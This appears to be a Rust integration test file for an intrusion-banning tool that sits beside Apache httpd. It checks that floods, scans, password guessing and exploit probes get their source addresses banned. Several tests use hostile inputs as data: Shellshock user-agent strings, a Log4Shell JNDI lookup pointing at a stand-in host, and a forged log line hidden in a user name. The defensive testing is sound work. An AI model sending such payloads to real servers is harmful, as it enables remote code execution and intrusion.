//! Who is banned, and what that does to him: real requests, and the kernel's own set.

use std::net::Ipv6Addr;
use std::os::unix::net::UnixDatagram;
use std::time::{Duration, Instant};

use nix::sys::signal::Signal;

use crate::support::{
    Connection, Load, Mpm, Request, SERVER, Setup, World, comes_true, must, secs, signal,
    wait_until,
};

const ATTACKER: &str = "198.51.100.66";
const READER: &str = "198.51.100.7";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// The shipped flood rule, with a ban short enough to see its end.
const SHORT_DOS: &str = r#"
[jail.apache-dos]
not = { static = true }
maxretry = 100
findtime = "1s"
bantime = "4s"
"#;

/// Asks for `paths` one after the other on one connection, until it is cut.
pub(crate) fn walk(world: &World, from: &str, paths: impl Iterator<Item = String>) -> usize {
    let mut connection = Connection::open(world, from).expect("a connection");
    connection.patience(secs(1));
    paths
        .take_while(|path| {
            connection
                .ask(&Request::get(path.as_str()).agent(BROWSER))
                .is_ok()
        })
        .count()
}

/// Someone who reads a style sheet fifty times a second, from `READER`, until stopped.
fn reading(world: &World) -> Load {
    Load::start(
        world,
        1,
        usize::MAX,
        Duration::from_millis(20),
        |_| READER.into(),
        |_, n| Request::get(if n % 4 == 0 { "/page" } else { "/style.css" }).agent(BROWSER),
    )
}

/// The worker letters of httpd's scoreboard that are neither idle nor empty.
fn busy_workers(world: &World) -> usize {
    let url = format!("http://{SERVER}/server-status?auto");
    let output = must(world.on_client("curl").args([
        "-s",
        "--max-time",
        "5",
        "--interface",
        "198.51.100.200",
        &url,
    ]));
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let board = text
        .lines()
        .find_map(|line| line.strip_prefix("Scoreboard: "))
        .unwrap_or_else(|| panic!("no scoreboard in {text}"));
    board.bytes().filter(|b| !b"_.".contains(b)).count()
}

/// Connections from `from` that the server's kernel has, in any state that still holds a worker.
fn connections(world: &World, from: &str) -> usize {
    let output = must(world.on_server("ss").args([
        "-Htn",
        "state",
        "established",
        "state",
        "close-wait",
        "dst",
        from,
    ]));
    String::from_utf8_lossy(&output.stdout).lines().count()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_flood_is_banned_cut_off_and_served_again_after_bantime_while_others_are_served() {
    let world = World::new();
    world.config(SHORT_DOS);
    let httpd = Setup::new(&world).mpm(Mpm::Prefork).start();
    let reader = reading(&world);

    // He holds two workers: an idle keep-alive connection, and a request that never ends.
    let mut idle = Connection::open(&world, ATTACKER).expect("a connection");
    assert_eq!(
        idle.ask(&Request::get("/style.css")).expect("an answer"),
        200
    );
    let mut half = Connection::open(&world, ATTACKER).expect("a connection");
    half.send(b"GET /page HTTP/1.1\r\nHost: www").expect("sent");
    wait_until("both of his connections", secs(2), || {
        connections(&world, ATTACKER) == 2
    });
    let busy = busy_workers(&world);

    // 99 are fine; the hundredth is not.
    let flood = |n: usize| walk(&world, ATTACKER, (0..n).map(|i| format!("/page?{i}")));
    let start = Instant::now();
    assert_eq!(flood(99), 99);
    assert!(
        start.elapsed() < secs(1),
        "this machine is too slow to flood"
    );
    wait_until("the 99 lines", secs(2), || {
        httpd.tee().windows(9).filter(|w| w == b"GET /page").count() >= 99
    });
    assert_eq!(world.banned("apache-dos"), [""; 0]);
    std::thread::sleep(Duration::from_millis(1100));
    let banned = Instant::now();
    assert!(
        flood(1000) < 1000,
        "a thousand requests, and nobody cut him off"
    );
    world.wait_banned("apache-dos", ATTACKER);

    assert_eq!(world.curl(ATTACKER, "/page"), None, "the next request");
    wait_until("the end of his open connections", secs(2), || {
        connections(&world, ATTACKER) == 0
    });
    wait_until("two free workers", secs(2), || {
        busy_workers(&world) <= busy - 2
    });
    idle.patience(secs(1));
    assert!(idle.ask(&Request::get("/style.css")).is_err());

    wait_until("the end of the ban", secs(10), || {
        world.curl(ATTACKER, "/page") == Some(200)
    });
    let lasted = banned.elapsed();
    assert!(
        lasted >= Duration::from_millis(3500),
        "{lasted:?} is too short"
    );
    assert_eq!(world.banned("apache-dos"), [""; 0]);
    let reader = reader.stop();
    assert_eq!((reader.refused, reader.failed), (0, 0), "{reader:?}");
    assert!(reader.served > 50, "{reader:?}");
    httpd.assert_tee_is_complete();
}

#[test]
#[ignore = "needs root and network namespaces"]
fn the_event_model_frees_the_worker_of_a_banned_slow_request() {
    let world = World::new();
    world.config(SHORT_DOS);
    let _httpd = Setup::new(&world).start();
    let mut half = Connection::open(&world, ATTACKER).expect("a connection");
    half.send(b"GET /page HTTP/1.1\r\nHost: www").expect("sent");
    wait_until("a busy worker", secs(2), || busy_workers(&world) == 2);
    walk(&world, ATTACKER, (0..150).map(|i| format!("/page?{i}")));
    world.wait_banned("apache-dos", ATTACKER);
    wait_until("a free worker", secs(2), || busy_workers(&world) == 1);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn fifteen_missing_pages_are_a_scan_and_one_missing_page_fifty_times_is_not() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).start();
    assert_eq!(
        walk(&world, READER, (0..50).map(|_| "/missing-page".into())),
        50
    );
    assert_eq!(
        walk(&world, ATTACKER, (0..14).map(|i| format!("/old/{i}"))),
        14
    );
    wait_until("64 lines", secs(2), || {
        httpd.tee().iter().filter(|&&b| b == b'\n').count() >= 64
    });
    assert_eq!(world.banned_anywhere(), [""; 0]);
    walk(&world, ATTACKER, (14..15).map(|i| format!("/old/{i}")));
    world.wait_banned("apache-scan", ATTACKER);
    assert_eq!(world.banned_anywhere().len(), 1);
    assert_eq!(world.curl(ATTACKER, "/page"), None);
    assert_eq!(world.curl(READER, "/page"), Some(200));
    httpd.assert_tee_is_complete();
}

#[test]
#[ignore = "needs root and network namespaces"]
fn refused_passwords_are_banned_and_a_correct_one_is_not() {
    let world = World::new();
    world.shipped();
    let _httpd = Setup::new(&world).start();
    for i in 0..12 {
        // What a browser does: first without a name, then with the right one.
        assert_eq!(world.curl(READER, "/private/page"), Some(401));
        let right = world.curl_with(READER, "/private/page", &["-u", "reader:secret"]);
        assert_eq!(right, Some(200), "visit {i}");
    }
    assert_eq!(world.banned_anywhere(), [""; 0]);
    let mut guesses = 0;
    while guesses < 20 {
        let password = format!("reader:guess{guesses}");
        match world.curl_with(ATTACKER, "/private/page", &["-u", &password]) {
            Some(401) => guesses += 1,
            None => break,
            other => panic!("{other:?}"),
        }
    }
    assert!((10..=11).contains(&guesses), "{guesses} guesses");
    world.wait_banned("apache-auth", ATTACKER);
    assert_eq!(world.curl(READER, "/page"), Some(200));
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_user_name_with_blanks_and_brackets_does_not_hide_who_sent_it() {
    for format in ["f2b", "combined"] {
        let world = World::new();
        world.shipped();
        let _httpd = Setup::new(&world).format(format).start();
        world.wait_chain();
        let user = format!("{READER} - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 401 1:x");
        for i in 0..20 {
            if world
                .curl_with(ATTACKER, "/private/page", &["-u", &user])
                .is_none()
            {
                break;
            }
            assert!(i < 15, "{format}: still served");
        }
        world.wait_banned("apache-auth", ATTACKER);
        assert_eq!(world.banned_anywhere().len(), 1, "{format}");
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn an_ipv6_client_is_banned_with_its_64_and_the_next_64_is_not() {
    let world = World::new();
    world.shipped();
    let _httpd = Setup::new(&world).start();
    // Each request from another address of the /64: it is one client all the same.
    for i in 0..15u16 {
        let address = Ipv6Addr::new(0x2001, 0xdb8, 0x1000, 5, 0, 0, i, 9);
        let answer = world.curl(&address.to_string(), &format!("/old/{i}"));
        assert_eq!(answer, Some(404), "{address}");
    }
    world.wait_banned("apache-scan", "2001:db8:1000:5::");
    assert_eq!(world.curl("2001:db8:1000:5::abcd:1", "/page"), None);
    assert_eq!(world.curl("2001:db8:1000:6::1", "/page"), Some(200));
    assert_eq!(world.banned_anywhere().len(), 1);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn one_shellshock_agent_is_enough() {
    let world = World::new();
    world.shipped();
    let _httpd = Setup::new(&world).start();
    world.wait_chain();
    let shellshock = ["-A", "() { :; }; /bin/ping -c 1 198.51.100.99"];
    assert_eq!(world.curl_with(ATTACKER, "/page", &shellshock), Some(200));
    world.wait_banned("apache-exploit-agent", ATTACKER);
    assert_eq!(world.curl(ATTACKER, "/page"), None);
    let jndi = ["-A", "${jndi:ldap://198.51.100.99/a}"];
    world.curl_with("203.0.113.66", "/page", &jndi);
    world.wait_banned("apache-exploit-agent", "203.0.113.66");
    assert_eq!(world.curl(READER, "/page"), Some(200));
    // Why he is banned, and for how long still, stands in the kernel's set.
    let sets = world.sets();
    let entry = sets["f2bp-apache-exploit-agent"]
        .iter()
        .find(|entry| entry.starts_with(ATTACKER))
        .expect("his entry");
    let left: u64 = entry
        .split(' ')
        .skip_while(|&word| word != "timeout")
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no timeout in {entry}"));
    assert!((500..=86_400).contains(&left), "{entry}");
    assert!(entry.contains("comment \""), "{entry}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_ban_outlives_graceful_restart_and_stop_and_the_next_process_bans_too() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).start();
    walk(&world, ATTACKER, (0..16).map(|i| format!("/old/{i}")));
    world.wait_banned("apache-scan", ATTACKER);
    let mut banned = 1;
    for (i, command) in ["graceful", "restart", "graceful"].iter().enumerate() {
        let before = httpd.loggers();
        httpd.control(command);
        wait_until("another logger alone", secs(10), || {
            let now = httpd.loggers();
            now.len() == 1 && now != before
        });
        wait_until("httpd to serve", secs(5), || {
            world.curl(READER, "/style.css") == Some(200)
        });
        assert_eq!(world.curl(ATTACKER, "/page"), None, "after {command}");
        let next = format!("198.51.100.{}", 70 + i);
        walk(&world, &next, (0..16).map(|i| format!("/old/{i}")));
        world.wait_banned("apache-scan", &next);
        banned += 1;
        assert_eq!(world.banned_anywhere().len(), banned);
    }
    httpd.stop();
    wait_until("the logger's end", secs(2), || httpd.loggers().is_empty());
    assert_eq!(world.banned_anywhere().len(), banned, "after stop");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_killed_process_is_replaced_and_the_next_one_bans() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).start();
    let first = httpd.logger();
    signal(first, Signal::SIGKILL);
    wait_until("a new logger", secs(5), || {
        httpd.loggers().iter().any(|&pid| pid != first)
    });
    // A process on a pipe that is enlarged already doubts what it reads in its first two seconds: f2b lines count.
    walk(&world, ATTACKER, (0..16).map(|i| format!("/old/{i}")));
    world.wait_banned("apache-scan", ATTACKER);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn syslog_and_the_error_log_are_told_of_a_ban_in_the_expected_words() {
    let world = World::new();
    world.shipped();
    let socket = UnixDatagram::bind(world.path("devlog")).expect("a socket");
    socket.set_read_timeout(Some(secs(5))).expect("a time");
    let httpd = Setup::new(&world).before(&private_dev_log(&world)).start();
    world.curl_with(ATTACKER, "/page", &["-A", "() { :; }; id"]);
    world.wait_banned("apache-exploit-agent", ATTACKER);
    let mut told = String::new();
    let expected = format!("NOTICE [apache-exploit-agent] Ban {ATTACKER}");
    while !told.contains(&expected) {
        let mut buffer = [0; 2048];
        let n = socket
            .recv(&mut buffer)
            .unwrap_or_else(|e| panic!("{e}: no {expected:?} in {told:?}"));
        told.push_str(&String::from_utf8_lossy(&buffer[..n]));
        told.push('\n');
    }
    wait_until("a line in the error log", secs(2), || {
        httpd.said().contains(ATTACKER)
    });
}

/// Shell commands that give httpd's mount namespace a /dev whose `log` is the socket `devlog` of the test's folder.
pub(crate) fn private_dev_log(world: &World) -> String {
    let dir = world.dir().display();
    format!(
        "mkdir {dir}/dev; mount -t tmpfs -o mode=755 tmpfs {dir}/dev
        for n in null zero full random urandom; do : > {dir}/dev/$n; mount --bind /dev/$n {dir}/dev/$n; done
        mkdir {dir}/dev/shm; mount -t tmpfs tmpfs {dir}/dev/shm
        ln -s {dir}/devlog {dir}/dev/log; mount --rbind {dir}/dev /dev"
    )
}

#[test]
#[ignore = "needs root and network namespaces"]
fn dry_run_tells_and_bans_nobody() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).option("--dry-run").start();
    assert_eq!(
        walk(&world, ATTACKER, (0..40).map(|i| format!("/old/{i}"))),
        40
    );
    wait_until("a word about him", secs(5), || {
        httpd.said().contains(ATTACKER)
    });
    assert_eq!(world.banned_anywhere(), [""; 0]);
    assert_eq!(world.curl(ATTACKER, "/page"), Some(200));
}

#[test]
#[ignore = "needs root and network namespaces"]
fn unban_and_off_open_the_door_again_at_once() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).start();
    let scan = |from: &str| {
        walk(&world, from, (0..16).map(|i| format!("/old/{i}")));
        world.wait_banned("apache-scan", from);
        assert_eq!(world.curl(from, "/page"), None);
    };
    scan(ATTACKER);
    scan("203.0.113.66");
    let listed = String::from_utf8(world.ask(&["banned", "--json"]).stdout).expect("text");
    assert!(
        listed.contains(ATTACKER) && listed.contains("203.0.113.66"),
        "{listed}"
    );
    assert!(world.ask(&["unban", ATTACKER]).status.success());
    assert_eq!(world.curl(ATTACKER, "/page"), Some(200));
    assert_eq!(world.banned_anywhere().len(), 1);
    assert!(world.ask(&["off"]).status.success());
    assert_eq!(world.banned_anywhere(), [""; 0]);
    assert_eq!(world.curl("203.0.113.66", "/page"), Some(200));
    // The process has heard of it within a second or two. While it is off, nobody is banned; afterwards again.
    wait_until("the process to know", secs(3), || {
        httpd.said().contains("off: ")
    });
    assert_eq!(
        walk(&world, ATTACKER, (0..40).map(|i| format!("/old/{i}"))),
        40
    );
    assert!(!comes_true(secs(1), || !world.banned_anywhere().is_empty()));
    assert!(world.ask(&["reload"]).status.success());
    let banned_again = comes_true(secs(10), || {
        walk(&world, "203.0.113.67", (0..20).map(|i| format!("/old/{i}")));
        // A moment later: who is banned cannot walk again.
        comes_true(secs(1), || !world.banned("apache-scan").is_empty())
    });
    assert!(banned_again, "{}", httpd.said());
}

/// Behind a proxy the client's address never arrives as a packet's source.
#[test]
#[ignore = "needs root and network namespaces"]
fn behind_a_proxy_the_proxy_is_not_banned_and_the_trouble_is_said() {
    let world = World::new();
    world.shipped();
    let proxied = "RemoteIPHeader X-Forwarded-For\nRemoteIPInternalProxy 203.0.113.1\n";
    let httpd = Setup::new(&world).conf(proxied).start();
    let mut proxy = Connection::open(&world, "203.0.113.1").expect("a connection");
    for i in 0..30 {
        let request = Request::get(format!("/old/{i}")).header("X-Forwarded-For", ATTACKER);
        assert_eq!(proxy.ask(&request).expect("an answer"), 404);
    }
    wait_until("a word about it", secs(5), || {
        let said = httpd.said();
        let mut lines = said.lines();
        lines.any(|line| line.contains("cannot be held here") && line.contains(ATTACKER))
    });
    assert!(
        !world
            .banned_anywhere()
            .iter()
            .any(|b| b.contains("203.0.113.1 ")),
        "the proxy, and with it everybody, is banned"
    );
    readers_behind(&mut proxy);
}

fn readers_behind(proxy: &mut Connection) {
    for i in 0..20 {
        let reader = format!("198.18.0.{i}");
        let request = Request::get("/page").header("X-Forwarded-For", &reader);
        assert_eq!(proxy.ask(&request).expect("an answer"), 200);
    }
}
